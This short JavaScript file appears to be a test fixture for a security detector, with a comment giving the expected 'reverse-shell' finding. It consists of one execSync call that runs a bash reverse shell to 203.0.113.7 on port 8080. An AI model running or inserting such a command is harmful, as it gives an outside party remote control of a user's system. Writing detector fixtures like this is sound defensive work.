// expect: reverse-shell 4:31
const { execSync } = require('child_process');

execSync('bash -c "bash -i >& /dev/tcp/203.0.113.7/8080 0>&1"');
